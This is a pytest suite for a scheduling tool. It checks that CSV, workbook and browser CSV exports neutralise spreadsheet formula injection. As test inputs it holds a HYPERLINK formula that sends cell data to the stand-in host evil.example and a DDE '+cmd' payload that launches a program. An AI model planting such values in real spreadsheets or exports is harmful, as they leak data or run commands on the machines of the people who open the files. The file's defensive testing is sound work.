"""Formula injection (issue #13): text a spreadsheet would run is escaped in every export.

An order id, customer or product name that starts with ``=``, ``+``, ``-`` or ``@`` is a
formula to Excel and LibreOffice when they open a CSV (``=HYPERLINK(...)`` leaks data,
``+cmd|...`` runs programs on old versions). The CSVs get ``'`` in front of such text;
the workbook keeps the text as a text cell, quoted, never a formula cell.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from solver import io
from solver.cli import app
from solver.domain import Customer, Dataset, Line, Order, Plant, Product, Routing
from tests.conftest import solve_validated

ROOT = Path(__file__).resolve().parents[1]
CUSTOMER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PRODUCT = "+cmd|' /C calc'!A0"
ORDER = "@SUM(1+1)"
OTHER_ORDER = "-2+3"


def injected_dataset() -> Dataset:
    """Two orders on one 8 h line, ids and names made to run as formulas."""
    due = dt.date(2026, 12, 11)
    return Dataset.create(
        plant=Plant(dt.date(2026, 11, 30), horizon_days=14, holiday_country=None),
        lines=[Line("L1", 8, "=1+1")],
        products=[Product("P1", PRODUCT)],
        routings=[Routing("P1", "L1", 60, 0.5)],
        customers=[Customer("C1", CUSTOMER, "-region", 1)],
        orders=[Order(ORDER, "P1", 100, due, "C1"), Order(OTHER_ORDER, "P1", 50, due, "C1")],
    )


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("SO-1", "SO-1"),
        ("", ""),
        (-3, -3),  # a negative number is a number
        (-2.5, -2.5),
        (None, None),
        (dt.date(2026, 1, 1), dt.date(2026, 1, 1)),
    ],
)
def test_spreadsheet_safe_escapes_only_text_that_would_run(value, exported):
    assert io.spreadsheet_safe(value) == exported


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_csv_exports_escape_formula_text(tmp_path):
    dataset = injected_dataset()
    schedule = solve_validated(dataset).schedule
    io.write_schedule_csv(schedule, tmp_path, dataset)
    orders = {row["order_id"]: row for row in cells(tmp_path / "orders.csv")}
    assert set(orders) == {f"'{ORDER}", f"'{OTHER_ORDER}"}
    row = orders[f"'{ORDER}"]
    assert (row["customer_name"], row["product_name"], row["line_name"]) == (f"'{CUSTOMER}", f"'{PRODUCT}", "'=1+1")
    assert row["quantity"] == "100" and row["due_date"] == "2026-12-11"  # numbers and dates as they were
    daily = cells(tmp_path / "daily_plan.csv")
    assert {row["order_id"] for row in daily} == {f"'{ORDER}", f"'{OTHER_ORDER}"}
    assert {row["product_name"] for row in daily} == {f"'{PRODUCT}"}
    dispatch = cells(tmp_path / "dispatch_plan.csv")
    assert {(row["customer_name"], row["region"]) for row in dispatch} == {(f"'{CUSTOMER}", "'-region")}


def test_cli_csv_escapes_formula_text(tmp_path):
    folder = tmp_path / "plant"
    io.write_csv_folder(injected_dataset(), folder)
    out = tmp_path / "csv"
    result = CliRunner().invoke(
        app, ["solve", str(folder), "--out", str(tmp_path / "s.json"), "--csv", str(out), "--time-limit", "5"]
    )
    assert result.exit_code == 0, result.output
    assert {row["order_id"] for row in cells(out / "orders.csv")} == {f"'{ORDER}", f"'{OTHER_ORDER}"}
    assert {row["customer_name"] for row in cells(out / "dispatch_plan.csv")} == {f"'{CUSTOMER}"}
    # the schedule document itself is data, not a spreadsheet: the ids as they are
    assert {o["order_id"] for o in json.loads((tmp_path / "s.json").read_text())["orders"]} == {ORDER, OTHER_ORDER}


def test_workbook_keeps_formula_text_as_text(tmp_path):
    dataset = injected_dataset()
    schedule = solve_validated(dataset).schedule
    io.write_schedule_workbook(schedule, dataset, tmp_path / "plan.xlsx", lang="en")
    book = openpyxl.load_workbook(tmp_path / "plan.xlsx")
    texts = {}
    for sheet in book:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(io.FORMULA_STARTS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    texts[cell.value] = cell.data_type
    # the cells hold the text itself (no ' added: a quoted text cell shows it as it is)
    assert {CUSTOMER, PRODUCT, ORDER, OTHER_ORDER, "=1+1", "-region"} <= set(texts)
    orders = book["Orders"]
    assert any(c.value == 100 and c.data_type == "n" for c in orders["F"])  # numbers stay numbers


NODE = shutil.which("node")
TO_CSV = """
globalThis.localStorage = { getItem: () => null, setItem: () => {} };
const { toCsv } = await import(process.argv[1]);
process.stdout.write(JSON.stringify(toCsv(["id", "n"], JSON.parse(process.argv[2]))));
"""


@pytest.mark.skipif(NODE is None, reason="node is not installed")
def test_page_csv_export_escapes_formula_text():
    """util.js's toCsv, which the late list's export uses, run as a module in node."""
    rows = [["=1+1", -3], ["@SUM(A1)", 4.5], ["SO-1", "-x"], ["\tx", ""]]
    result = subprocess.run(
        [NODE, "--input-type=module", "-e", TO_CSV, str(ROOT / "api/static/js/util.js"), json.dumps(rows)],
        capture_output=True,
        text=True,
        timeout=30,
        check=True,
    )
    text = json.loads(result.stdout)
    assert text == "\ufeffid,n\r\n'=1+1,-3\r\n'@SUM(A1),4.5\r\nSO-1,'-x\r\n'\tx,\r\n"
    late = (ROOT / "api/static/js/late.js").read_text(encoding="utf-8")
    assert "toCsv(header, rows)" in late  # the late list exports through it
